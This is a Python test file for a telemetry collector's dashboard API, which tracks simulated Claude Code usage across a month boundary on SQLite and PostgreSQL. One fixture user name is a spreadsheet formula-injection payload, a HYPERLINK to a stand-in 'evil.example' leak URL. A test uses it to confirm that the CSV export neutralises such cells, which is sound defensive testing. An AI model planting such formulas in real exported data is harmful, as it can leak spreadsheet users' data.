"""Dashboard endpoints against a real collector and store, on SQLite and on PostgreSQL.

The data is a small org's month around a month boundary, sent by simulated Claude Code
processes through the real OpenTelemetry SDK exporters (tests/sdk/claude_like.py): metrics and
events, delta and cumulative, identities by email, ingest token and device id, teams from
resource attributes and from a directory file. Every expected number is computed from the
workload that was sent (`claude_like.expected`), never from the collector.

A process's clock is set by giving its events a fixed time and mapping its metric points'
times onto `at_ns + elapsed / 1000` (`Backdated`), so a whole session lands on a chosen UTC
day: one ends at 23:59:59 on the last day of a month, one starts at 00:00:00 on the first.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from opentelemetry.sdk.metrics.export import (
    MetricExporter,
    MetricExportResult,
    MetricsData,
)

from tests.api.client import VIEWER_KEY, get, get_json
from tests.harness import RunningCollector, make_config, running_collector
from tests.sdk.claude_like import (
    ApiCall,
    ClaudeCodeProcess,
    Expected,
    MetricsLink,
    Person,
    PullRequest,
    Step,
    Temporality,
    events_link,
    expected,
    metrics_link,
    typical_session,
)

API = "/api/v1"
MALLORY_TOKEN = "mallory-ingest-token-0001"
BOT_TOKEN = "ci-bot-ingest-token-0001"
#: a token-bound user whose name is a spreadsheet formula (with a quote and a comma).
EVIL_USER = '=HYPERLINK("http://evil.example/?leak","open"),1'
EVIL_TEAM = "+crew"
EVIL_DEPARTMENT = "@ops"
JURGEN_TEAM = "Zürich"
JURGEN_DEPARTMENT = "-R&D"
BUDGETS = [
    {"scope": "org", "period": "month", "usd": 5000},
    {"scope": "team", "name": "core", "period": "month", "usd": 1000.5},
    {"scope": "user", "name": "alice@example.com", "period": "day", "usd": 25},
]


def at(text: str) -> int:
    """An RFC 3339 UTC time as Unix nanoseconds."""
    moment = dt.datetime.fromisoformat(text.replace("Z", "+00:00"))
    return int(moment.timestamp()) * 10**9 + moment.microsecond * 1000


# -- sending -------------------------------------------------------------------------------


class Backdated(MetricExporter):
    """A real OTLP metric exporter for a process whose clock reads `at_ns` when it starts.

    Point times become `at_ns + (t - created) // 1000`: order and distinctness are kept (delta
    points stay distinct, cumulative ones keep their order) and a session that really takes a
    second lands within one millisecond of `at_ns`, on the day chosen for it.
    """

    def __init__(self, inner: MetricExporter, at_ns: int) -> None:
        super().__init__(
            preferred_temporality=inner._preferred_temporality,
            preferred_aggregation=inner._preferred_aggregation,
        )
        self.inner = inner
        self.at_ns = at_ns
        self.created = time.time_ns()

    def _time(self, ns: int) -> int:
        return self.at_ns + (ns - self.created) // 1000

    def export(
        self, metrics_data: MetricsData, timeout_millis: float = 10_000, **kwargs: Any
    ) -> MetricExportResult:
        moved = MetricsData(
            [
                replace(
                    rm,
                    scope_metrics=[
                        replace(
                            sm,
                            metrics=[
                                replace(
                                    m,
                                    data=replace(
                                        m.data,
                                        data_points=[
                                            replace(
                                                p,
                                                start_time_unix_nano=self._time(
                                                    p.start_time_unix_nano
                                                ),
                                                time_unix_nano=self._time(p.time_unix_nano),
                                            )
                                            for p in m.data.data_points
                                        ],
                                    ),
                                )
                                for m in sm.metrics
                            ],
                        )
                        for sm in rm.scope_metrics
                    ],
                )
                for rm in metrics_data.resource_metrics
            ]
        )
        return self.inner.export(moved, timeout_millis=timeout_millis, **kwargs)

    def force_flush(self, timeout_millis: float = 10_000) -> bool:
        return self.inner.force_flush(timeout_millis)

    def shutdown(self, timeout_millis: float = 30_000, **kwargs: Any) -> None:
        self.inner.shutdown(timeout_millis=timeout_millis, **kwargs)


@dataclass(frozen=True)
class Who:
    """A person and who the collector must resolve them to (from the docs' rules)."""

    person: Person
    actor: str
    kind: str
    team: str
    department: str
    token: str | None = None


@dataclass(frozen=True)
class Sent:
    """One session that was sent, and what it must add up to."""

    who: Who
    at_ns: int
    session_id: str
    steps: tuple[Step, ...]
    want: Expected

    @property
    def actor(self) -> str:
        return self.who.actor

    @property
    def day(self) -> str:
        return dt.datetime.fromtimestamp(self.at_ns // 10**9, dt.UTC).date().isoformat()

    def total(self, family: str) -> int:
        return int(self.want.total(family))

    @property
    def cost(self) -> Decimal:
        return Decimal(self.want.total("claude_code_cost_usd_total"))

    def lines(self, kind: str) -> int:
        return int(self.want.series["claude_code_lines_of_code_total"][(kind,)])

    def decisions(self, decision: str) -> int:
        series = self.want.series["claude_code_code_edit_decisions_total"]
        return sum(n for (_, d), n in series.items() if d == decision)

    @property
    def api_requests(self) -> int:
        return sum(1 for s in self.steps if isinstance(s, ApiCall))


def send_session(
    collector: RunningCollector,
    who: Who,
    steps: list[Step],
    at_ns: int,
    temporality: Temporality = "delta",
) -> Sent:
    """One Claude Code process, both signals over OTLP/HTTP, clock at `at_ns`."""
    inner = metrics_link(collector, "http", temporality, token=who.token).inner
    metrics = MetricsLink(Backdated(inner, at_ns))
    events = events_link(collector, "http", token=who.token)
    with ClaudeCodeProcess(who.person, metrics=metrics, events=events, clock=lambda: at_ns) as cc:
        cc.run(steps)
        cc.flush()
    cc.assert_exports_ok()
    want = expected(who.person, steps, metrics=steps, events=steps)
    return Sent(who, at_ns, cc.session_id, tuple(steps), want)


ALICE = Who(
    Person(
        "alice-mbp",
        email="alice@example.com",
        resource=(("team.id", "core"), ("department", "eng")),
    ),
    "alice@example.com",
    "email",
    "core",
    "eng",
)
BOB = Who(
    Person("bob-mbp", email="Bob@Example.com", resource=(("team.id", "web"),)),
    "bob@example.com",
    "email",
    "web",
    "",
)
CAROL = Who(
    Person("carol-mbp", email="carol@example.com", resource=(("team.id", "core"),)),
    "carol@example.com",
    "email",
    "core",
    "",
)
JURGEN = Who(
    Person("jurgen-mbp", email="jürgen@example.com", resource=(("team.id", "overridden"),)),
    "jürgen@example.com",
    "email",
    JURGEN_TEAM,
    JURGEN_DEPARTMENT,
)
MALLORY = Who(Person("mallory-box"), EVIL_USER, "token", EVIL_TEAM, EVIL_DEPARTMENT, MALLORY_TOKEN)
#: a token-bound actor with a slash and a space: still one path segment of the API.
BOT = Who(Person("bot-box"), "ci/bot x", "token", "unassigned", "", BOT_TOKEN)
_DAVE = Person("dave-ci", resource=(("team.id", "ops"),))
DAVE = Who(_DAVE, _DAVE.device, "device", "ops", "")

#: (who, when, seed, extra pull requests, temporality)
PLAN: list[tuple[Who, str, int, int, Temporality]] = [
    (DAVE, "2026-09-01T08:00:00Z", 9, 0, "delta"),
    (BOT, "2026-09-15T08:00:00Z", 10, 0, "cumulative"),
    (CAROL, "2026-10-10T12:00:00Z", 8, 0, "cumulative"),
    (ALICE, "2026-10-31T12:00:00Z", 1, 0, "delta"),
    # The last second of October, and the first instant of November.
    (BOB, "2026-10-31T23:59:59Z", 4, 0, "cumulative"),
    (ALICE, "2026-11-01T00:00:00Z", 2, 0, "cumulative"),
    (JURGEN, "2026-11-01T12:00:00Z", 6, 0, "delta"),
    (ALICE, "2026-11-02T12:00:00Z", 3, 0, "delta"),
    # One extra PR ties Bob with Alice on November's pull requests (2 each).
    (BOB, "2026-11-02T12:30:00Z", 5, 1, "delta"),
    (MALLORY, "2026-11-02T13:00:00Z", 7, 0, "delta"),
]


def api_config(tmp: Path) -> dict[str, Any]:
    directory = tmp / "people.csv"
    with directory.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["key", "team", "department"])
        writer.writerow(["mallory", EVIL_TEAM, EVIL_DEPARTMENT])
        writer.writerow(["jürgen@example.com", JURGEN_TEAM, JURGEN_DEPARTMENT])
    return {
        "extensions": {
            "api": {"keys": [{"name": "viewer", "key": VIEWER_KEY, "role": "viewer"}]},
            "budgets": BUDGETS,
        },
        "receivers": {
            "otlp": {
                "auth": {
                    "required": False,
                    "tokens": [
                        {"name": "mallory", "token": MALLORY_TOKEN, "user": EVIL_USER},
                        {"name": "bot", "token": BOT_TOKEN, "user": BOT.actor},
                    ],
                }
            }
        },
        "processors": {"claude_code": {"directory": str(directory)}},
    }


@dataclass
class World:
    collector: RunningCollector
    sent: list[Sent]
    started_ns: int
    finished_ns: int


def populate(collector: RunningCollector) -> list[Sent]:
    sent = []
    for who, when, seed, extra_prs, temporality in PLAN:
        steps = typical_session(seed, calls=4) + [PullRequest()] * extra_prs
        sent.append(send_session(collector, who, steps, at(when), temporality))
    return sent


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def world(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator:
    overrides = api_config(tmp_path_factory.mktemp("dashboard"))
    url = None
    if request.param == "postgresql":
        cluster = request.getfixturevalue("pg_cluster")
        url = cluster.new_database()
        overrides["exporters"] = {"store": {"url": url}}
    try:
        with running_collector(make_config(overrides)) as collector:
            started = time.time_ns()
            sent = populate(collector)
            yield World(collector, sent, started, time.time_ns())
    finally:
        if url is not None:
            cluster.drop_database(url)


def query(world: World, path: str, **params: Any) -> tuple[int, Any]:
    return get_json(world.collector, f"{API}/{path}" + (f"?{urlencode(params)}" if params else ""))


# -- what the answers must be, from what was sent -------------------------------------------


def usd(amount: Decimal) -> float:
    return float(amount)


def rate(accepted: int, rejected: int) -> float | None:
    return accepted / (accepted + rejected) if accepted + rejected else None


def within(sent: list[Sent], first: str, last: str) -> list[Sent]:
    return [s for s in sent if first <= s.day <= last]


def days_of(first: str, last: str) -> list[str]:
    a, b = dt.date.fromisoformat(first), dt.date.fromisoformat(last)
    return [(a + dt.timedelta(days=i)).isoformat() for i in range((b - a).days + 1)]


def want_summary(sent: list[Sent], first: str, last: str) -> dict[str, Any]:
    inside = within(sent, first, last)
    days = days_of(first, last)
    accepted = sum(s.decisions("accept") for s in inside)
    rejected = sum(s.decisions("reject") for s in inside)
    added = sum(s.lines("added") for s in inside)
    return {
        "from": first,
        "to": last,
        "days": len(days),
        "spend_usd": usd(sum((s.cost for s in inside), Decimal(0))),
        "sessions": sum(s.total("claude_code_sessions_total") for s in inside),
        "lines_of_code": {"added": added, "removed": sum(s.lines("removed") for s in inside)},
        "lines_of_code_accepted": added,
        "commits": sum(s.total("claude_code_commits_total") for s in inside),
        "pull_requests": sum(s.total("claude_code_pull_requests_total") for s in inside),
        "suggestions": {
            "accepted": accepted,
            "rejected": rejected,
            "accept_rate": rate(accepted, rejected),
        },
        "active_users": {
            "distinct": len({s.actor for s in inside}),
            "daily_average": sum(len({s.actor for s in inside if s.day == d}) for d in days)
            / len(days),
        },
    }


# -- tests ----------------------------------------------------------------------------------


def test_the_workload_is_what_the_tests_assume(world: World) -> None:
    """Guards the expectations below against a workload that would make them vacuous."""
    for s in world.sent:
        assert s.total("claude_code_sessions_total") == 1
        assert s.cost > 0 and s.lines("added") > 0 and s.lines("removed") > 0
        assert s.decisions("accept") > 0 and s.decisions("reject") > 0
    assert len({s.day for s in world.sent}) == 6


@pytest.mark.parametrize(
    ("first", "last"),
    [
        ("2026-10-31", "2026-10-31"),  # ends at 23:59:59: Alice's noon and Bob's last second
        ("2026-11-01", "2026-11-01"),  # from 00:00:00: Alice's first instant and Jürgen
        ("2026-11-01", "2026-11-30"),
        ("2026-10-01", "2026-10-31"),
        ("2026-09-01", "2026-11-30"),
        ("2026-09-02", "2026-09-30"),  # nothing: zeros, no accept rate
    ],
)
def test_summary(world: World, first: str, last: str) -> None:
    status, body = query(world, "summary", **{"from": first, "to": last})
    assert status == 200, body
    assert body == want_summary(world.sent, first, last)


def test_summary_counts_people_not_sessions(world: World) -> None:
    """Alice has two sessions on two November days: one distinct user, two user-days."""
    _, body = query(world, "summary", **{"from": "2026-11-01", "to": "2026-11-02"})
    assert body["active_users"] == {"distinct": 4, "daily_average": (2 + 3) / 2}
    assert body["sessions"] == 5


def test_daily(world: World) -> None:
    first, last = "2026-10-30", "2026-11-03"
    status, body = query(world, "daily", **{"from": first, "to": last})
    assert status == 200, body
    assert body["from"] == first and body["to"] == last
    want = []
    for day in days_of(first, last):
        inside = [s for s in world.sent if s.day == day]
        want.append(
            {
                "date": day,
                "active_users": len({s.actor for s in inside}),
                "sessions": len(inside),
                "spend_usd": usd(sum((s.cost for s in inside), Decimal(0))),
                "lines_of_code": {
                    "added": sum(s.lines("added") for s in inside),
                    "removed": sum(s.lines("removed") for s in inside),
                },
            }
        )
    assert body["data"] == want
    assert [d["active_users"] for d in body["data"]] == [0, 2, 2, 3, 0]


@pytest.mark.parametrize("month", ["2026-09", "2026-10", "2026-11", "2026-12", "9999-12"])
def test_team_lists_every_member_with_the_month(world: World, month: str) -> None:
    status, body = query(world, "team", month=month)
    assert status == 200, body
    year, number = map(int, month.split("-"))
    first = dt.date(year, number, 1)
    last = dt.date(year, 12, 31) if number == 12 else dt.date(year, number + 1, 1) - dt.timedelta(1)
    assert (body["month"], body["from"], body["to"], body["team"]) == (
        month,
        first.isoformat(),
        last.isoformat(),
        None,
    )
    people = {s.who.actor: s.who for s in world.sent}
    want = []
    for who in sorted(people.values(), key=lambda w: (w.team, w.actor)):
        mine = [s for s in within(world.sent, body["from"], body["to"]) if s.actor == who.actor]
        accepted = sum(s.decisions("accept") for s in mine)
        rejected = sum(s.decisions("reject") for s in mine)
        want.append(
            {
                "actor": who.actor,
                "actor_kind": who.kind,
                "team": who.team,
                "department": who.department,
                "spend_usd": usd(sum((s.cost for s in mine), Decimal(0))),
                "lines_of_code": {
                    "added": sum(s.lines("added") for s in mine),
                    "removed": sum(s.lines("removed") for s in mine),
                },
                "sessions": len(mine),
                "suggestions": {
                    "accepted": accepted,
                    "rejected": rejected,
                    "accept_rate": rate(accepted, rejected),
                },
            }
        )
    got = [{k: v for k, v in m.items() if k != "last_seen"} for m in body["data"]]
    assert got == want
    # last_seen is when the collector last received something from them: during this run.
    for member in body["data"]:
        seen = at(member["last_seen"])
        assert world.started_ns // 10**6 <= seen // 10**6 <= world.finished_ns // 10**6


def test_team_filter(world: World) -> None:
    _, body = query(world, "team", month="2026-10", team="core")
    assert [m["actor"] for m in body["data"]] == ["alice@example.com", "carol@example.com"]
    _, body = query(world, "team", month="2026-10", team=EVIL_TEAM)
    assert [(m["actor"], m["department"]) for m in body["data"]] == [(EVIL_USER, EVIL_DEPARTMENT)]
    _, body = query(world, "team", month="2026-10", team="nobody")
    assert body["data"] == []


def want_board(world: World, by: str, first: str, last: str, limit: int) -> list[dict]:
    values: dict[str, Any] = {}
    for s in within(world.sent, first, last):
        if by == "cost":
            n: Any = s.cost
        elif by == "lines":
            n = s.lines("added")
        else:
            n = s.total("claude_code_pull_requests_total")
        values[s.actor] = values.get(s.actor, 0) + n
    people = {s.actor: s.who for s in world.sent}
    ordered = sorted((a for a in values if values[a] > 0), key=lambda a: (-values[a], a))
    board = []
    for i, name in enumerate(ordered[:limit]):
        tied = i > 0 and values[ordered[i - 1]] == values[name]
        who = people[name]
        board.append(
            {
                "rank": board[-1]["rank"] if tied else i + 1,
                "actor": name,
                "actor_kind": who.kind,
                "team": who.team,
                "department": who.department,
                "value": usd(values[name]) if by == "cost" else values[name],
            }
        )
    return board


@pytest.mark.parametrize("by", ["cost", "lines", "prs"])
@pytest.mark.parametrize(
    ("first", "last", "limit"),
    [("2026-11-01", "2026-11-30", 10), ("2026-09-01", "2026-11-30", 3)],
)
def test_leaderboard(world: World, by: str, first: str, last: str, limit: int) -> None:
    status, body = query(world, "leaderboard", by=by, limit=limit, **{"from": first, "to": last})
    assert status == 200, body
    assert (body["by"], body["from"], body["to"], body["limit"]) == (by, first, last, limit)
    assert body["data"] == want_board(world, by, first, last, limit)


def test_leaderboard_ties_share_a_rank(world: World) -> None:
    _, body = query(world, "leaderboard", by="prs", **{"from": "2026-11-01", "to": "2026-11-30"})
    assert [(e["rank"], e["actor"], e["value"]) for e in body["data"]] == [
        (1, "alice@example.com", 2),
        (1, "bob@example.com", 2),
        (3, EVIL_USER, 1),
        (3, "jürgen@example.com", 1),
    ]
    # Default: by cost, 10 rows at most.
    _, default = query(world, "leaderboard", **{"from": "2026-11-01", "to": "2026-11-30"})
    assert default["by"] == "cost" and default["limit"] == 10
    assert default["data"] == want_board(world, "cost", "2026-11-01", "2026-11-30", 10)


def want_session(s: Sent) -> dict[str, Any]:
    return {
        "session_id": s.session_id,
        "actor": s.actor,
        "actor_kind": s.who.kind,
        "team": s.who.team,
        "terminal": s.who.person.terminal,
        "spend_usd": usd(s.cost),
        "tokens": s.total("claude_code_tokens_total"),
        "lines_of_code": {"added": s.lines("added"), "removed": s.lines("removed")},
        "prompts": s.total("claude_code_prompts_total"),
        "api_requests": s.api_requests,
    }


def test_session_drilldown(world: World) -> None:
    for s in world.sent:
        status, body = query(world, f"sessions/{s.session_id}")
        assert status == 200, body
        times = {k: body.pop(k) for k in ("started_at", "last_activity_at", "duration_seconds")}
        assert body == want_session(s)
        # Events carry the process clock exactly; metric points land after it, by a
        # thousandth of the real time the process took (Backdated).
        assert at(times["started_at"]) == s.at_ns
        assert s.at_ns <= at(times["last_activity_at"]) < s.at_ns + 10**9
        assert 0 <= times["duration_seconds"] < 1


def test_unknown_session_and_user_are_404_in_anthropics_envelope(world: World) -> None:
    for path in ("sessions/no-such-session", "users/nobody%40example.com/sessions"):
        status, body = query(world, path)
        assert status == 404
        assert body["type"] == "error"
        assert body["error"]["type"] == "not_found_error"
        assert body["error"]["message"]


def test_user_sessions(world: World) -> None:
    alice = [s for s in world.sent if s.who is ALICE]
    newest_first = sorted(alice, key=lambda s: -s.at_ns)
    status, body = query(world, f"users/{quote(ALICE.actor, safe='')}/sessions", limit=2)
    assert status == 200, body
    assert (body["actor"], body["actor_kind"], body["team"], body["department"]) == (
        "alice@example.com",
        "email",
        "core",
        "eng",
    )
    assert [x["session_id"] for x in body["data"]] == [s.session_id for s in newest_first[:2]]
    assert body["has_more"] is True
    _, everything = query(world, f"users/{quote(ALICE.actor, safe='')}/sessions")
    assert everything["has_more"] is False
    for got, s in zip(everything["data"], newest_first, strict=True):
        assert {k: v for k, v in got.items() if k in want_session(s)} == want_session(s)
    # Any actor, URL-encoded: a device id, a non-ASCII email, a formula-like token user, a
    # name with a slash.
    for who in (DAVE, JURGEN, MALLORY, BOT):
        status, body = query(world, f"users/{quote(who.actor, safe='')}/sessions")
        assert status == 200, (who.actor, body)
        assert body["actor"] == who.actor
        assert [x["session_id"] for x in body["data"]] == [
            s.session_id for s in world.sent if s.who is who
        ]


def test_users_csv_is_rfc4180_utf8_and_never_a_formula(world: World) -> None:
    status, text, headers = get(world.collector, f"{API}/export/users.csv")
    assert status == 200
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in headers["Content-Disposition"]
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert header[:8] == [
        "actor",
        "actor_kind",
        "team",
        "department",
        "first_seen",
        "last_seen",
        "sessions",
        "spend_usd",
    ]
    table = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    people = {s.who.actor: s.who for s in world.sent}
    # Formula-like cells carry a leading apostrophe; everything else is unchanged.
    neutral = {a if a[0] not in "=+-@" else "'" + a: w for a, w in people.items()}
    assert set(table) == set(neutral)
    evil = table["'" + EVIL_USER]
    assert (evil["team"], evil["department"]) == ("'" + EVIL_TEAM, "'" + EVIL_DEPARTMENT)
    assert table["jürgen@example.com"]["department"] == "'" + JURGEN_DEPARTMENT
    assert table["jürgen@example.com"]["team"] == JURGEN_TEAM
    # The quote and comma inside the evil name survive as one quoted RFC 4180 field.
    assert '"\'=HYPERLINK(""http://evil.example/?leak"",""open""),1"' in text
    for name, who in neutral.items():
        mine = [s for s in world.sent if s.actor == who.actor]
        row = table[name]
        assert row["actor_kind"] == who.kind
        assert int(row["sessions"]) == len(mine)
        assert Decimal(row["spend_usd"]) == sum((s.cost for s in mine), Decimal(0))
        assert int(row["tokens"]) == sum(s.total("claude_code_tokens_total") for s in mine)
        assert int(row["lines_added"]) == sum(s.lines("added") for s in mine)
        assert int(row["pull_requests"]) == sum(
            s.total("claude_code_pull_requests_total") for s in mine
        )
        assert int(row["edits_rejected"]) == sum(s.decisions("reject") for s in mine)
        assert int(row["prompts"]) == sum(s.total("claude_code_prompts_total") for s in mine)
    # A range limits the totals, not the people.
    _, ranged, _ = get(world.collector, f"{API}/export/users.csv?from=2026-11-01&to=2026-11-30")
    ranged_rows = {r[0]: r for r in list(csv.reader(io.StringIO(ranged, newline="")))[1:]}
    assert set(ranged_rows) == set(neutral)
    assert ranged_rows["carol@example.com"][6:8] == ["0", "0.000000000"]


def test_json_keeps_names_as_they_are(world: World) -> None:
    """Neutralizing is for spreadsheets; JSON clients get the real values."""
    _, body = query(world, "team", month="2026-11", team=EVIL_TEAM)
    assert body["data"][0]["actor"] == EVIL_USER


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("summary", {"from": "2026-13-01", "to": "2026-13-02"}),
        ("summary", {"from": "20261101", "to": "2026-11-02"}),
        ("summary", {"from": "2026-11-03", "to": "2026-11-02"}),
        ("summary", {"from": "2025-01-01", "to": "2026-11-02"}),
        ("daily", {"from": "yesterday"}),
        ("daily", {"to": "2026-02-30"}),
        ("team", {"month": "2026-1"}),
        ("team", {"month": "2026-13"}),
        ("team", {"month": "2026-11-01"}),
        ("team", {"month": "2026-11", "team": ""}),
        ("leaderboard", {"by": "tokens"}),
        ("leaderboard", {"limit": "0"}),
        ("leaderboard", {"limit": "1001"}),
        ("leaderboard", {"limit": "ten"}),
        ("leaderboard", {"limit": "-1"}),
        ("leaderboard", {"limit": "²"}),
        ("summary", {"to": "0001-01-05"}),
        ("summary", {"from": "\uff12\uff10\uff12\uff16-11-01"}),  # fullwidth digits
        ("users/alice%40example.com/sessions", {"limit": "0"}),
        ("export/users.csv", {"from": "2026-11-02", "to": "2026-11-01"}),
    ],
)
def test_invalid_parameters_are_400(world: World, path: str, params: dict) -> None:
    status, body = query(world, path, **params)
    assert status == 400, body
    assert body["type"] == "error"
    assert body["error"]["type"] == "invalid_request_error"
    assert body["error"]["message"]


def test_defaults_end_today(world: World) -> None:
    before = dt.datetime.now(dt.UTC).date()
    _, body = query(world, "summary")
    after = dt.datetime.now(dt.UTC).date()
    assert body["days"] == 30
    last = dt.date.fromisoformat(body["to"])
    assert before <= last <= after
    assert dt.date.fromisoformat(body["from"]) == last - dt.timedelta(days=29)
    _, team = query(world, "team")
    assert team["month"] == last.strftime("%Y-%m")


def test_reading_needs_a_read_key(world: World) -> None:
    for key in (None, MALLORY_TOKEN):
        status, body = get_json(world.collector, f"{API}/summary", key=key)
        assert status == (401 if key is None else 403)
        assert body["type"] == "error"
